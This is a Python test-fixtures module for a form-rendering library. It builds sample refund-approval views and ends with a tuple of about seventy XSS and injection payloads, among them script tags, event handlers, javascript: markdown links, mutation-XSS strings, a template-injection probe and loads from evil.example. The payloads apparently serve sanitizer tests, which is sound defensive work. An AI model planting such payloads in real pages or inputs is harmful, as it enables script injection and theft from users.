"""Views and payloads that several tests use."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from sayso.rendering.markdown import render_markdown
from sayso.rendering.views import (
    ActionView,
    AskView,
    DecisionView,
    FormView,
    OptionView,
    ParagraphView,
    SelectView,
    TextView,
    TypedView,
    ValueView,
)

NOW = datetime(2026, 12, 2, 12, 0, tzinfo=UTC)
DEADLINE = NOW + timedelta(days=1, hours=4)
LINK = "https://approve.halden.example/form/AQEt9bq0Yk1xQ2mV8sWc7nZr5uNgAQABc3hT0aQmW8bYcJr5uN"

ASK = AskView(
    question="Refund €1,240.00?",
    more="Order HO-10482",
    asker="Refund bot",
    reference="7K4M-29QD",
    workspace="Halden Outdoor",
    zone="Europe/Berlin",
)
NOTE = ParagraphView(name="note", label="Note", required=True, initial="Dear customer", hint="Hint")
PAYOUT = SelectView(
    name="payout",
    label="How should the money go back?",
    options=(OptionView(value="card", label="Card"), OptionView(value="voucher", label="Voucher")),
    required=True,
)
APPROVE = ActionView(id="approve", label="Approve refund", style="primary")
REFUSE = ActionView(id="refuse", label="Refuse and close", style="destructive")
FORM = FormView(
    ask=ASK,
    deadline=DEADLINE,
    now=NOW,
    parts=(TextView(html=render_markdown("Please **look**.")), NOTE, PAYOUT),
    actions=(REFUSE, APPROVE),
)
DECISION = DecisionView(action="Approve refund", at=NOW, by="Tomasz Nowak")
TYPED = TypedView(action="Approve refund", values=(ValueView(label="Note", text="typed text"),))

XSS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=x><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#x73;cript:alert(1)'>x</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](https://good.example@evil.example/)",
    "[x](https://good.example\\@evil.example/)",
    "[x](https:evil.example)",
    "[x](https://e.example \"t' onmouseover=alert(1) x='\")",
    '[x](https://e.example/"onmouseover="alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://e.example/?<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![\"onerror=\"alert(1)](https://evil.example/x)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    "# \" onfocus=alert(1) autofocus x=\"\n\n|a|\n|-|\n|b|",
    "> <script>alert(1)</script>",
    "- <svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "*<script>*alert(1)*</script>*",
    "{{ ''.__class__.__mro__ }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "\u202e<script>alert(1)</script>\u202c",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<script\x00>alert(1)</script\x00>",
)  # fmt: skip
"""Ways in that were used elsewhere: tags, events, addresses, mutation, templates, hidden text."""
